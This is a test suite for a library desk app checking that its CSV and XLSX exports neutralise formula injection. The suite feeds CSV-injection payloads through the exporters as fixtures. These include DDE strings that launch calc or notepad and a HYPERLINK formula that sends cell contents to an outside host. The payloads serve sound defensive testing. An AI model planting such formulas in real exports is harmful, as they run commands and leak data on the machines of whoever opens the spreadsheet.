"""Formula cells in every export (issue 14, OWASP "CSV injection"): readers' names, the
library's name and the audit log's words never become a formula in a spreadsheet, phone
numbers typed with `+` stay usable, control characters are left out, and a failed monthly
report leaves no half set of files.

The property runs `ROZUPE_FUZZ_EXAMPLES` examples (see conftest).
"""

from __future__ import annotations

import csv
import io
import json
import sqlite3

from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from rozupe_desk.db.connection import close_database
from rozupe_desk.db.models import Patron
from rozupe_desk.formats import cells
from rozupe_desk.services.readers import patrons
from tests.cli.test_koc_cli import run
from tests.desk_data import make_patron
from tests.fuzz.conftest import fuzz

ATTACKS = ['=HYPERLINK("http://x.lv/?"&A1,"Klikšķini")', "+1+cmd|' /C calc'!A0",
           "@SUM(1+9)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
           "=1+1\x00"]
PHONE = "+371 29123456"


def csv_cells(path, delimiter: str) -> list[list[str]]:
    text = path.read_text(encoding="utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))


def assert_no_formula(rows: list[list[str]], *, allowed: frozenset[str] = frozenset()) -> None:
    for row in rows:
        for cell in row:
            assert "\x00" not in cell
            assert cell in allowed or not cells.is_formula(cell), cell


def test_the_readers_export_holds_no_formula_and_reads_back_the_same(db_path, tmp_path):
    for n, attack in enumerate(ATTACKS):
        make_patron(f"F{n}", first=attack, last=f"Ozols{attack}")
    reader = make_patron("P1", first="Ilze", last="Kalniņa")
    Patron.update(phone=PHONE, address="=cmd|'/C notepad'!A0").where(
        Patron.id == reader.id).execute()
    out = tmp_path / "readers.csv"
    patrons.export_csv(path=out)
    rows = csv_cells(out, ";")
    assert_no_formula(rows, allowed=frozenset({PHONE}))
    assert [row[4] for row in rows if row[0] == "P1"] == [PHONE]  # the phone stays usable
    close_database()
    again = tmp_path / "again.sqlite"
    assert run("--db", str(again), "import", "patrons", str(out)).returncode == 0
    with sqlite3.connect(again) as db:
        names = {row[0] for row in db.execute("SELECT first_name FROM patron")}
    assert {cells.clean(attack).strip() for attack in ATTACKS} <= names


def test_the_monthly_csv_and_xlsx_and_the_audit_csv_hold_no_formula(db_path, tmp_path):
    make_patron("A1", first='=HYPERLINK("x")', last="@SUM(1)")
    with sqlite3.connect(db_path) as db:
        db.execute("INSERT INTO setting (key, value) VALUES ('library_name', ?) ON CONFLICT"
                   " (key) DO UPDATE SET value = excluded.value",
                   (json.dumps('=HYPERLINK("http://x","Rožupe")\x00'),))
    close_database()
    pdf, table, book = tmp_path / "m.pdf", tmp_path / "m.csv", tmp_path / "m.xlsx"
    done = run("--db", str(db_path), "report", "monthly", "2026-03", "-o", str(pdf),
               "--csv", str(table), "--xlsx", str(book))
    assert done.returncode == 0, done.stderr
    assert_no_formula(csv_cells(table, ","))
    sheet = load_workbook(book).active
    values = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert all(cell.data_type != "f" for cell in values)
    assert sheet["A1"].value == '=HYPERLINK("http://x","Rožupe")'  # as typed, but text
    audit = tmp_path / "audit.csv"
    assert run("--db", str(db_path), "audit", "-o", str(audit)).returncode == 0
    assert_no_formula(csv_cells(audit, ";"))


def test_a_failed_monthly_report_leaves_no_half_set_of_files(db_path, tmp_path):
    close_database()
    pdf, table = tmp_path / "m.pdf", tmp_path / "m.csv"
    done = run("--db", str(db_path), "report", "monthly", "2026-03", "-o", str(pdf),
               "--csv", str(table), "--xlsx", str(tmp_path / "missing" / "m.xlsx"))
    assert done.returncode == 1 and "Negaidīta" not in done.stderr
    assert sorted(p.name for p in tmp_path.iterdir() if p.name.startswith("m.")) == []


@fuzz(300)
@given(st.text(alphabet=st.characters(codec="utf-8"), max_size=40))
def test_no_text_becomes_a_formula_and_our_import_gets_it_back(text):
    cell = cells.csv_cell(text)
    assert not cells.is_formula(cell)
    assert cells.unguarded(cell) == cells.clean(text) or cells.clean(text).startswith("'")
    assert "\x00" not in cell
